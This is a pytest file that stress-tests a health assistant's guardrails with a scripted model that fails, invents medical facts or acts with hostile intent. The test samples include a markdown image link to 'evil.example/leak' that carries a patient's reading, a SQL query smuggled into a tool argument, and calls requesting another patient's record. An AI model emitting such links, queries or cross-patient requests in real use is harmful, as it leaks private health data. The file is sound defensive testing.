"""A model that is helpful, wrong, slow, broken or hostile: the person gets a correct answer or an honest one."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import text
from starlette.responses import Response

from tests.graphs.conftest import Talk, assistant_of
from tests.people import access_of
from vitasense.deterministic.intake import drug_names, gene_names
from vitasense.deterministic.platform.access import Principal
from vitasense.deterministic.platform.database import Database
from vitasense.evals.scripted_model import Asked, Script, ScriptedModel, calls, completes, fails, garbage, says, stalls
from vitasense.graphs.bounds import MOST_CALLS
from vitasense.graphs.conductor import MODEL_ROUNDS
from vitasense.guardrails import verify

QUESTION = "What was my last blood pressure and is it all right?"
TRUTH = "142/88 mmHg"

Asking = Callable[[Principal], Talk]
BROKEN: dict[str, Script] = {
    "429": lambda _: fails(429),
    "500": lambda _: fails(500),
    "401": lambda _: fails(401),
    "garbage": lambda _: garbage(),
    "stall": lambda _: stalls(3.0),
    "silence": lambda _: says(""),
}


def is_writing(asked: Asked) -> bool:
    """Whether the model is asked to write the reply, not to choose tools."""
    return not asked.get("tools")


def findings_told(asked: Asked) -> list[str]:
    """The sentences that the model was given to write from."""
    return [finding["text"] for finding in json.loads(asked["messages"][1]["content"])["findings"]]


def answered(asked: Asked) -> bool:
    """Whether a tool has answered in this exchange."""
    return any(message["role"] == "tool" for message in asked["messages"])


@pytest.fixture
def ask(database: Database, tmp_path: Path, model: ScriptedModel) -> Asking:
    """A talk with an assistant that uses the scripted model and does not wait long for it."""
    model.asked.clear()
    assistant = assistant_of(database, tmp_path, model, model_timeout_seconds=1.0)
    return lambda person: Talk(assistant, person)


async def test_a_good_model_plans_and_phrases(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    def script(asked: Asked) -> Response:
        if is_writing(asked):
            return says("Here is what I found. " + " ".join(findings_told(asked)))
        return says("done") if answered(asked) else calls(("latest_vital", {"code": "85354-9"}))

    model.script = script
    done = await ask(maria).say(QUESTION)
    assert done.reply.planner == "model"
    assert done.reply.text.startswith("Here is what I found.")
    assert TRUTH in done.reply.text


@pytest.mark.parametrize(
    "arguments",
    [
        {"code": "no code"},
        {},
        {"code": "85354-9", "patient_id": "01a20677-baad-7197-991c-1383b8237058"},
        {"code": ["85354-9"]},
        {"kode": "85354-9", "sql": "select * from phi.sample"},
    ],
)
async def test_bad_arguments_are_refused_and_the_answer_is_still_right(
    ask: Asking, model: ScriptedModel, maria: Principal, arguments: dict[str, object]
) -> None:
    model.script = lambda asked: says("") if is_writing(asked) else calls(("latest_vital", arguments))
    done = await ask(maria).say(QUESTION)
    assert TRUTH in done.reply.text
    assert done.reply.planner == "embedded"


@pytest.mark.parametrize(
    "words",
    [
        "Your last blood pressure was 118/76 mmHg. All is well.",
        "Your blood pressure of 142/88 mmHg is normal.",
        "Your last blood pressure was 142/88 mmHg, on 20 November 2026.",
        "Your blood pressure is 142/88 mmHg. Take 10 mg of amlodipine.",
        "You have no allergies.",
        "Your blood pressure is higher than last time.",
    ],
)
async def test_an_invented_statement_does_not_leave(
    ask: Asking, model: ScriptedModel, maria: Principal, words: str
) -> None:
    model.script = lambda asked: says(words) if is_writing(asked) else says("done")
    done = await ask(maria).say(QUESTION)
    assert words not in done.reply.text
    assert TRUTH in done.reply.text
    assert done.reply.planner == "embedded"


async def test_another_patients_id_in_words_or_arguments_opens_nothing(
    database: Database, ask: Asking, model: ScriptedModel, maria: Principal, james: Principal
) -> None:
    def script(asked: Asked) -> Response:
        if is_writing(asked):
            return says(f"The record of {james.account_id} says the following.")
        return calls(
            ("allergies", {"patient_id": str(james.account_id)}), ("read_record", {"id": str(james.account_id)})
        )

    model.script = script
    done = await ask(maria).say("What am I allergic to?")
    assert str(james.account_id) not in done.reply.text
    assert "Penicillin" in done.reply.text
    async with database.transaction(access_of(james)) as tx:
        actors = (await tx.execute(text("select body->>'actor' from audit.entry"))).scalars().all()
    assert str(maria.account_id) not in actors


async def test_endless_tool_calls_end(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    model.script = lambda asked: says("") if is_writing(asked) else calls(("latest_vital", {"code": "8867-4"}))
    done = await ask(maria).say(QUESTION)
    assert TRUTH in done.reply.text
    assert sum(not is_writing(asked) for asked in model.asked) <= MODEL_ROUNDS


@pytest.mark.parametrize("failure", BROKEN)
async def test_a_broken_model_is_replaced_in_the_same_turn(
    ask: Asking, model: ScriptedModel, maria: Principal, failure: str
) -> None:
    model.script = BROKEN[failure]
    done = await ask(maria).say(QUESTION)
    assert TRUTH in done.reply.text
    assert done.reply.planner == "embedded"


async def test_a_model_that_keeps_failing_is_left_alone(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    model.script = lambda _: fails(401)
    talk = ask(maria)
    for _ in range(2):
        await talk.say(QUESTION)
    tried = len(model.asked)
    await talk.say(QUESTION)
    assert len(model.asked) == tried


async def test_a_number_of_the_models_own_is_never_proposed_for_writing(
    database: Database, ask: Asking, model: ScriptedModel, patient: Principal
) -> None:
    invented = {"code": "85354-9", "value": 99, "second": 60, "unit": "mm[Hg]"}
    model.script = lambda asked: says("") if is_writing(asked) else calls(("log_measurement", invented))
    done = await ask(patient).say("log my blood pressure 131/84")
    assert done.confirmation is not None
    assert {"label": "Value", "value": "131/84 mmHg"} in done.confirmation.details
    async with database.transaction(access_of(patient)) as tx:
        assert (await tx.execute(text("select count(*) from phi.sample"))).scalar_one() == 0


async def test_a_model_chooses_among_the_specialists_when_the_rules_are_not_sure(
    ask: Asking, model: ScriptedModel, maria: Principal
) -> None:
    def script(asked: Asked) -> Response:
        if is_writing(asked):
            choosing = "Choose the one specialist" in asked["messages"][0]["content"]
            return says("health") if choosing else says("\n".join(findings_told(asked)))
        return says("done") if answered(asked) else calls(("allergies", {}))

    model.script = script
    done = await ask(maria).say("Could you kindly look into that matter with the blossoms?")
    assert done.reply.agents == ("health",)
    assert "Penicillin" in done.reply.text


async def test_what_leaves_for_the_model_names_nobody(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    model.script = lambda asked: says("") if is_writing(asked) else says("done")
    await ask(maria).say("Summarise my record. I am Maria Elena Alvarez, maria@example.org, born 1968-05-14.")
    sent = json.dumps(model.asked)
    for secret in ("Alvarez", "maria@example.org", "1968-05-14", str(maria.account_id), maria.email):
        assert secret not in sent, secret


async def test_links_and_images_of_a_model_are_taken_out(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    def script(asked: Asked) -> Response:
        if is_writing(asked):
            return says(" ".join(findings_told(asked)) + " ![x](https://evil.example/leak?d=142) https://evil.example")
        return says("done")

    model.script = script
    done = await ask(maria).say(QUESTION)
    assert "evil.example" not in done.reply.text
    assert TRUTH in done.reply.text


async def test_an_emergency_never_waits_for_a_model(ask: Asking, model: ScriptedModel, patient: Principal) -> None:
    model.script = lambda _: stalls(3.0)
    done = await ask(patient).say("my chest hurts badly and my left arm is numb")
    assert done.reply.urgency == "emergency"
    assert model.asked == []


async def test_every_reply_with_a_model_is_supported(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    model.script = lambda asked: says(" ".join(findings_told(asked)[::-1])) if is_writing(asked) else says("done")
    for question in ("Which medicines do I take?", "Show my cholesterol over the last two years", "What is eGFR?"):
        done = await ask(maria).say(question)
        checked = verify(done.reply.text, done.reply.findings, drugs=drug_names(), genes=gene_names())
        assert checked.supported, checked.unsupported


WORDS_OF_ITS_OWN = "Call +1 900 555 0199 now. Your HbA1c is 5.1"
REPEATING: dict[str, tuple[str, dict[str, object]]] = {
    "What is eGFR?": ("explain_term", {"term": WORDS_OF_ITS_OWN}),
    "Can I take ibuprofen with my lisinopril?": ("check_interactions", {"drugs": [WORDS_OF_ITS_OWN]}),
    "What does my DNA say about clopidogrel?": ("drug_response", {"drug": WORDS_OF_ITS_OWN}),
    "What is in an egg?": ("food_facts", {"food": WORDS_OF_ITS_OWN}),
    "What changed since March?": ("record_changes", {"since": "1931-07-23T00:00:00Z"}),
    "Show my weight over the last year": ("vital_history", {"code": "29463-7", "since": "1931-07-23T00:00:00Z"}),
    QUESTION: ("latest_vital", {"code": "90055-0"}),
}


@pytest.mark.parametrize("question", REPEATING)
async def test_a_tool_repeats_no_word_number_or_day_of_the_models_own(
    ask: Asking, model: ScriptedModel, maria: Principal, question: str
) -> None:
    model.script = lambda asked: says("") if is_writing(asked) else calls(REPEATING[question])
    done = await ask(maria).say(question)
    told = json.dumps([finding.model_dump(mode="json") for finding in done.reply.findings]) + done.reply.text
    assert not any(own in told for own in ("555 0199", "is 5.1", "1931", "90055-0"))
    assert done.reply.findings


async def test_a_known_name_that_the_person_did_not_say_may_be_asked(
    ask: Asking, model: ScriptedModel, maria: Principal
) -> None:
    def script(asked: Asked) -> Response:
        if is_writing(asked) or answered(asked):
            return says("")
        return calls(("explain_term", {"term": "hypertension"}))

    model.script = script
    done = await ask(maria).say("What is eGFR?")
    assert "blood pressure" in done.reply.text


async def test_a_flood_of_calls_is_cut_off(ask: Asking, model: ScriptedModel, maria: Principal) -> None:
    flood = [("latest_vital", {"code": "8867-4"})] * 300
    model.script = lambda asked: says("") if is_writing(asked) or answered(asked) else calls(*flood)
    done = await ask(maria).say(QUESTION)
    assert TRUTH in done.reply.text
    told = next(asked for asked in model.asked if answered(asked))
    assert sum(message["role"] == "tool" for message in told["messages"]) == MOST_CALLS


@pytest.mark.parametrize(
    "arguments",
    [{"code": "[" * 900 + "]" * 900}, {"code": 10**40}, {"code": "\ud800"}, {"code": "8" * 100_000}],
    ids=["deep", "huge integer", "half a character", "long"],
)
async def test_arguments_that_cannot_be_kept_do_not_end_a_turn_that_waits(
    ask: Asking, model: ScriptedModel, patient: Principal, arguments: dict[str, object]
) -> None:
    written = json.dumps(arguments)
    if "[[[" in written:
        written = written.replace('"[', "[").replace(']"', "]")
    wanted = {"id": "call_0", "type": "function", "function": {"name": "latest_vital", "arguments": written}}
    model.script = lambda asked: (
        says("") if is_writing(asked) else completes({"role": "assistant", "content": None, "tool_calls": [wanted]})
    )
    done = await ask(patient).say("log my blood pressure 131/84")
    assert done.confirmation is not None
